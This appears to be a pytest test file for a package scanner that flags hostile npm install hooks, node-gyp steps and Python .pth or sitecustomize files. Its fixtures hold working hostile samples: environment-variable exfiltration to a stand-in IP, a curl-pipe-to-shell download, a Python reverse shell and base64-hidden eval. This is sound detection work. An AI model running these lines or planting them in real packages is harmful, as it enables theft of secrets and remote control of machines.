"""What the code does that a package runs by itself: read with the finding, and no way to make it go away."""

from __future__ import annotations

import json
import shlex
from collections.abc import Mapping
from time import process_time
from typing import Any

import pytest
from artefact_support import Desk, npm_of, tar_of, wheel_of
from hypothesis import given
from hypothesis import strategies as st

from skillwarden.artefact.hooks import MAX_FILE_BYTES, looked_into
from skillwarden.domain.artefact_facts import ArtefactFacts, Hook
from skillwarden.domain.finding import Severity
from skillwarden.source.commands import Place, Run, runs_of

HIDDEN = "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n"
STEALS = (
    "const https = require('https');\n"
    "const env = JSON.stringify(process.env);\n"
    "https.request('https://203.0.113.9/').write(env);\n"
)
DOWNLOADS = "curl -s https://203.0.113.9/x | sh\n"
SHELL_BACK = (
    "import socket, os, pty\ns = socket.socket(); s.connect(('203.0.113.9', 4444))\n"
    "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"
)


async def script(desk: Desk, command: str, files: Mapping[str, str] | None = None, **manifest: Any) -> Hook:
    """Return the hook of a package whose postinstall script is a command."""
    scripts = {"postinstall": command, **manifest.pop("scripts", {})}
    folders = await desk.npm(npm_of({"scripts": scripts, **manifest}, files))
    [hook] = (hook for hook in folders[""].hooks if hook.id == "postinstall")
    return hook


@pytest.mark.parametrize(
    ("command", "files", "place"),
    [
        ("node setup.js", {"setup.js": STEALS}, "setup.js:3"),
        ("node ./lib/setup", {"lib/setup.js": STEALS}, "lib/setup.js:3"),
        ("node .", {"index.js": STEALS}, "index.js:3"),
        ("node lib", {"lib/index.js": STEALS}, "lib/index.js:3"),
        ("node --no-warnings -r ./first.js x", {"first.js": STEALS}, "first.js:3"),
        ("NODE_ENV=x cross-env A=b node setup.cjs || true", {"setup.cjs": STEALS}, "setup.cjs:3"),
        ("exit 0; echo hello && node 'my setup.js'", {"my setup.js": STEALS}, "my setup.js:3"),
        ("node data.txt", {"data.txt": STEALS}, "data.txt:3"),
        (f"node -e {json.dumps(HIDDEN)}", {}, "postinstall:1"),
        (f"node --eval={json.dumps(HIDDEN)}", {}, "postinstall:1"),
        ("python3 -u tools/x.py", {"tools/x.py": SHELL_BACK}, "tools/x.py:3"),
        ("python -m tools.x", {"tools/x.py": SHELL_BACK}, "tools/x.py:3"),
        (f"python -c {shlex.quote(SHELL_BACK)}", {}, "postinstall:3"),
        ("sh install", {"install": DOWNLOADS}, "install:1"),
        (". ./env", {"env": DOWNLOADS}, "env:1"),
        ("./run", {"run": f"#!/bin/sh\n{DOWNLOADS}"}, "run:2"),
        ("bash -c 'node setup.js'", {"setup.js": STEALS}, "setup.js:3"),
        (DOWNLOADS, {}, "postinstall:1"),
        ("npm run build", {"setup.js": STEALS}, "setup.js:3"),
        ("node-gyp rebuild", {"binding.gyp": "{'x': '<!(node setup.js)'}", "setup.js": STEALS}, "setup.js:3"),
        ('node "setup.js', {"setup.js": STEALS}, "postinstall"),
        ("node -e \"try{require('./go')}catch(e){}\"", {"go.js": STEALS}, "go.js:3"),
        ("node a", {"a.js": "require('./lib/go')", "lib/go.js": STEALS}, "lib/go.js:3"),
        ("node lib/a.mjs", {"lib/a.mjs": "import '../go.js'", "go.js": STEALS}, "go.js:3"),
        ("node a.mjs", {"a.mjs": 'import {x} from "./go.js"', "go.js": STEALS}, "go.js:3"),
        ("node lib/a", {"lib/a.js": "require('..')", "index.js": STEALS}, "index.js:3"),
    ],
)
async def test_what_an_install_script_runs_is_looked_into(
    command: str, files: dict[str, str], place: str, desk: Desk
) -> None:
    hook = await script(desk, command, files, scripts={"build": "node setup.js"})
    if place == "postinstall":  # nobody knows what it runs, and it is a hook all the same
        assert (hook.id, hook.severity) == ("postinstall", Severity.UNKNOWN)
        return
    assert hook.severity is Severity.CRITICAL, hook
    assert hook.does.startswith(f"{place} "), hook
    assert "(Critical)" in hook.does


async def test_a_main_program_is_what_node_runs_of_a_folder(desk: Desk) -> None:
    assert (
        await script(desk, "node .", {"lib/a.js": STEALS}, main="./lib/a.js")
    ).severity is Severity.CRITICAL


async def test_bundled_packages_are_looked_into_in_their_own_folders(desk: Desk) -> None:
    inner = json.dumps({"scripts": {"install": "node go.js"}})
    files = {"node_modules/a/package.json": inner, "node_modules/a/go.js": STEALS, "go.js": ""}
    [hook] = (await desk.npm(npm_of({}, files)))["node_modules/a"].hooks
    assert hook.severity is Severity.CRITICAL
    assert hook.does.startswith("node_modules/a/go.js:3 ")


async def test_the_implied_node_gyp_shows_what_the_build_runs(desk: Desk) -> None:
    gyp = "{'variables': {'x': '<!@(node -p \"require(\\'node-addon-api\\').include\")', 'y': '<!(sh go)'}}"
    [hook] = (await desk.npm(npm_of({}, {"binding.gyp": gyp, "go": DOWNLOADS})))[""].hooks
    assert (hook.id, hook.severity) == ("node-gyp", Severity.CRITICAL)
    assert hook.does.startswith("go:1 ")


@pytest.mark.parametrize(
    ("files", "place"),
    [
        ({"evil.pth": "import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))"}, "pth:evil.pth:1"),
        ({"evil.pth": "import evil", "evil.py": SHELL_BACK}, "evil.py:3"),
        ({"evil.pth": "import os, evil.go", "evil/__init__.py": SHELL_BACK}, "evil/__init__.py:3"),
        ({"evil.pth": "import sys; __import__('evil')", "evil.py": SHELL_BACK}, "evil.py:3"),
        ({"sitecustomize.py": SHELL_BACK}, "sitecustomize.py:3"),
        ({"tiny-1.0.data/scripts/git": f"#!/bin/sh\n{DOWNLOADS}"}, "tiny-1.0.data/scripts/git:2"),
    ],
)
async def test_what_runs_when_python_starts_is_looked_into(
    files: dict[str, str], place: str, desk: Desk
) -> None:
    [hook] = (await desk.wheel(wheel_of(files))).hooks
    assert hook.severity is Severity.CRITICAL, hook
    assert hook.does.startswith(f"{place} "), hook


# -- nothing makes the finding go away -------------------------------------------------------------------


async def test_a_harmless_script_stays_a_hook_and_says_that_somebody_looked(desk: Desk) -> None:
    hook = await script(desk, "node setup.js", {"setup.js": "console.log('thanks')\n"})
    assert (hook.severity, hook.text) == (Severity.UNKNOWN, "node setup.js")
    assert hook.does == "runs setup.js, in which nothing was found"


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("node gone.js", "runs gone.js, which is not in the package"),
        ("node ../../etc/x.js", "not in the package"),
        ("node /etc/x.js", "not in the package"),
        ("node $npm_package_x", "not in the package"),
        ("node huge.js", "too large"),
    ],
)
async def test_what_cannot_be_looked_into_is_said(command: str, words: str, desk: Desk) -> None:
    hook = await script(desk, command, {"huge.js": "//" + "x" * MAX_FILE_BYTES})
    assert words in hook.does
    assert hook.text == command


async def test_a_file_that_is_no_text_is_said(desk: Desk) -> None:
    manifest = json.dumps({"scripts": {"postinstall": "node bin; ./elf"}}).encode()
    hidden = b"\xff\xfe\x00\neval(process.argv[2])"
    members = {"package.json": manifest, "bin": hidden, "elf": b"\x7fELF" + bytes(64)}
    data = tar_of(*((f"package/{name}", content) for name, content in members.items()))
    [hook] = (await desk.npm(data))[""].hooks
    assert hook.severity is Severity.HIGH
    assert "machine code" in hook.does
    # It is read despite of what is no UTF-8 in it, as node reads it.
    assert "bin:2" in hook.does


@pytest.mark.parametrize(
    "text",
    [
        "[" * 90_000,
        "a('" * 60_000,
        "/*" * 90_000,
        "`${" * 60_000,
        "'\\" * 90_000,
        "require(" * 20_000,
        "eval(" + "A" * 180_000,
    ],
)
async def test_code_made_to_harm_who_reads_it_takes_nothing_away(text: str, desk: Desk) -> None:
    for command in ("node x", "python x", "sh x"):
        hook = await script(desk, command, {"x": text})
        assert hook.text == command


async def test_looking_ends_in_time(monkeypatch: pytest.MonkeyPatch) -> None:
    def forever(*_: object, **__: object) -> tuple[()]:
        began = process_time()
        while process_time() - began < 5:  # so that the test fails, and ends, where nobody stops it
            pass
        return ()

    monkeypatch.setattr("skillwarden.source.look.code_findings", forever)
    monkeypatch.setattr("skillwarden.artefact.hooks._CPU_SECONDS", 0.05)
    hook = looked_into(Hook("install", "x"), [Run("shell", code="x")], {})
    assert "takes too long" in hook.does


async def test_a_hook_is_shown_on_one_harmless_line(desk: Desk) -> None:
    name = "a\u202eb\n" * 40 + ".js"
    hook = await script(desk, f"node '{name}'", {name: STEALS})
    assert len(hook.does) <= 201
    assert hook.does.isprintable()


def test_facts_of_the_release_before_are_read_and_given() -> None:
    """A depot and an operator are not replaced at the same moment."""
    old = {"hooks": [["install", "x"]], "licence": "MIT", "licenceText": ""}
    assert ArtefactFacts.from_json(old).hooks == (Hook("install", "x"),)
    facts = ArtefactFacts(hooks=(Hook("install", "x", Severity.HIGH, "x:1 does"), Hook("preinstall", "y")))
    record = json.loads(json.dumps(facts.to_json()))
    assert record["hooks"] == [["install", "x"], ["preinstall", "y"]]
    assert ArtefactFacts.from_json(record) == facts


# -- commands --------------------------------------------------------------------------------------------


@given(command=st.text(alphabet="ab ./-'\"\\$();&|<>\nnode sh python-ec", max_size=200))
def test_any_command_is_told_apart(command: str) -> None:
    place = Place("", frozenset({"a", "b.js", "a/index.js"}), {"a": "npm run b", "b": "npm run a"})
    runs = runs_of(command, place)
    assert runs[0] == Run("shell", code=command)
    assert len(runs) <= 32
    assert all(run.path in {"a", "b.js", "a/index.js"} for run in runs if run.path and not run.missing)


def test_scripts_that_run_each_other_come_to_an_end() -> None:
    scripts = {"a": "npm run b && npm run a", "b": "npm run a; node x"}
    assert Run("javascript", path="x") in runs_of("npm run a", Place("", frozenset({"x"}), scripts))
